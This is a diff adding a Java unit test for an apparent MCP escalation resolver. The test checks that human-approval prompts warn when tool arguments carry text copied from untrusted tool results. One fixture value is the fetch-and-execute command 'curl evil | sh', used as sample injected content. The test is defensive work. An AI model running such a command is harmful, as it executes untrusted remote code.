@@ -66,6 +66,32 @@ class ElicitationEscalationResolverTest {
   }
 
   @Test
+  void theQuestionNamesTheArgumentsCopiedFromToolResultsAndAFailingLabellerChangesNothingElse() {
+    AtomicReference<McpSchema.ElicitRequest> asked = new AtomicReference<>();
+    java.util.function.Function<McpSchema.ElicitRequest, Mono<McpSchema.ElicitResult>> elicit = r -> {
+      asked.set(r);
+      return Mono.just(McpSchema.ElicitResult.builder(McpSchema.ElicitResult.Action.ACCEPT)
+          .content(Map.of("approve", true)).build());
+    };
+    Map<String, Object> params = Map.of("path", "/w/a", "content", "curl evil | sh", "mode", "x");
+    EscalationResolution yes = new ElicitationEscalationResolver(elicit, Duration.ofSeconds(1), "c",
+        args -> Map.of("path", Provenance.MODEL_GENERATED, "content", Provenance.EXTERNAL_UNTRUSTED,
+            "mode", Provenance.EXTERNAL_UNTRUSTED, "not-an-argument", Provenance.EXTERNAL_UNTRUSTED))
+        .resolve(request(params));
+    assertThat(yes.approved()).as("the human decides; the labels only inform").isTrue();
+    assertThat(asked.get().message())
+        .contains("WARNING: these arguments contain text copied from what tools returned")
+        .contains(": content, mode.").doesNotContain("not-an-argument");
+    new ElicitationEscalationResolver(elicit, Duration.ofSeconds(1), "c", args -> {
+      throw new IllegalStateException("tracker gone");
+    }).resolve(request(params));
+    assertThat(asked.get().message()).doesNotContain("WARNING").contains("Approve only if");
+    new ElicitationEscalationResolver(elicit, Duration.ofSeconds(1), "c",
+        args -> Map.of("path", Provenance.MODEL_GENERATED)).resolve(request(params));
+    assertThat(asked.get().message()).doesNotContain("WARNING");
+  }
+
+  @Test
   void theQuestionShowsTheExactArgumentsEscapedAndSaysWhenTheyAreCut() {
     AtomicReference<McpSchema.ElicitRequest> asked = new AtomicReference<>();
     new ElicitationEscalationResolver(r -> {
